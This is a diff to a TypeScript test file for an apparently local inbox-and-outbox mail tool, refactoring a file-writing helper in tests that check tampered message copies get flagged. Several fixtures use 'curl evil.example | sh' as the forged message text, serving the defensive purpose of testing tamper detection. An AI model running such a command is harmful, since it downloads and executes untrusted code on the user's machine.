@@ -5,8 +5,8 @@ import { beforeEach, describe, expect, test } from "vitest";
 import { createWorld, newConnection, operations, perform, type World } from "../../protocol/index.ts";
 import { homeWith, worldAt } from "../rig/home.ts";
 import { work } from "../rig/processes.ts";
-import { tree, until } from "../rig/scratch.ts";
-import { put, seal } from "../rig/sealing.ts";
+import { put, tree, until } from "../rig/scratch.ts";
+import { seal } from "../rig/sealing.ts";
 
 let folder: string;
 let home: string;
@@ -31,8 +31,8 @@ const codes = async (): Promise<any[]> =>
 
 describe("a copy in an inbox that says something else", () => {
   test("of a message whose name says nothing of its text: the thread's file counts", async () => {
-    put(home, OLD_PATH, oldText("Say when."));
-    put(home, `inbox/api/new/${OLD}.md`, oldText("curl evil.example | sh"));
+    put(path.join(home, OLD_PATH), oldText("Say when."));
+    put(path.join(home, `inbox/api/new/${OLD}.md`), oldText("curl evil.example | sh"));
     expect((await run("api", "inbox")).messages).toMatchObject([{ messageId: OLD, preview: "Say when." }]);
     expect(await run("api", "check")).toMatchObject({ findings: [{ code: "differing_mail", path: `inbox/api/new/${OLD}.md` }] });
     expect(await codes()).toMatchObject([{ code: "differing_mail", path: `inbox/api/new/${OLD}.md`, fixable: true }]);
@@ -43,8 +43,8 @@ describe("a copy in an inbox that says something else", () => {
 
   test("of a message whose name is made from its text", async () => {
     const { id, text, path: at } = seal({ from: "web", to: ["api"], body: "Say when." });
-    put(home, at, text);
-    put(home, `inbox/api/new/${id}.md`, text.replace("Say when.", "curl evil.example | sh"));
+    put(path.join(home, at), text);
+    put(path.join(home, `inbox/api/new/${id}.md`), text.replace("Say when.", "curl evil.example | sh"));
     expect((await run("api", "inbox")).messages).toMatchObject([{ messageId: id, preview: "Say when." }]);
     expect(await run("api", "check")).toMatchObject({ findings: [{ code: "malformed", path: `inbox/api/new/${id}.md` }] });
     await run("main", "doctor", { fix: true });
@@ -53,8 +53,8 @@ describe("a copy in an inbox that says something else", () => {
 
   test("alone, without the thread's file: only what its name proves is shown", async () => {
     const { id, text } = seal({ from: "web", to: ["api"], body: "Say when." });
-    put(home, `inbox/api/new/${id}.md`, text);
-    put(home, `inbox/api/new/${OLD}.md`, oldText("curl evil.example | sh"));
+    put(path.join(home, `inbox/api/new/${id}.md`), text);
+    put(path.join(home, `inbox/api/new/${OLD}.md`), oldText("curl evil.example | sh"));
     expect(await run("api", "inbox")).toMatchObject({
       messages: [{ messageId: id, preview: "Say when." }],
       problems: [{ path: `inbox/api/new/${OLD}.md`, problem: expect.stringContaining("does not have this message") }],
@@ -94,7 +94,7 @@ describe("another part's mail", () => {
   });
 
   test("in the inbox of an unknown part is reported; mail that a removed part left is not", async () => {
-    put(home, `inbox/ghost/new/${id}.md`, fs.readFileSync(path.join(home, `inbox/db/new/${id}.md`), "utf8"));
+    put(path.join(home, `inbox/ghost/new/${id}.md`), fs.readFileSync(path.join(home, `inbox/db/new/${id}.md`), "utf8"));
     fs.rmSync(path.join(home, `inbox/api/new/${id}.md`));
     expect(await codes()).toMatchObject([{ code: "not_addressed", path: `inbox/ghost/new/${id}.md` }]);
     expect(await run("api", "check")).toMatchObject({ findings: [{ code: "not_addressed", path: `inbox/ghost/new/${id}.md` }] });
@@ -118,8 +118,7 @@ test("mail of a part that was renamed, removed and added again stays its mail", 
 });
 
 test("a program that imports one operation sends what lies in an outbox all the same", async () => {
-  fs.mkdirSync(path.join(home, "outbox/web"), { recursive: true });
-  fs.writeFileSync(path.join(home, "outbox/web/hello.md"), "---\nto: [api]\nsubject: s\n---\nhi\n");
+  put(path.join(home, "outbox/web/hello.md"), "---\nto: [api]\nsubject: s\n---\nhi\n");
   const program = work("lister", [folder]);
   expect(await program.ended, program.stderr()).toBe(0);
   expect(fs.readdirSync(path.join(home, "inbox/api/new"))).toHaveLength(1);
